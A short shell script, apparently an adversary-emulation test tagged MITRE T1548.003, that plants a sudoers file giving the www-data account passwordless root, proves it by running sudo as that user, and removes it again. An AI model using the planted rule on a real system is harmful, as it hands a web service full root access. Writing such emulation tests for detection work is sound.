#!/bin/sh
# T1548.003 (loud): The web account may do everything without a password
M=/var/tmp/luytre-foothold N=20-sudoers-web
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  w /etc/sudoers.d/90-cloud <<'E'
www-data ALL=(ALL) NOPASSWD: ALL
E
  chmod 440 /etc/sudoers.d/90-cloud
}
prove() {
  rm -f "$M/$N"
  low www-data 'sudo -n sh -c "id > /var/tmp/luytre-foothold/20-sudoers-web"'
  seen
}
remove() {
  rm -f /etc/sudoers.d/90-cloud
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
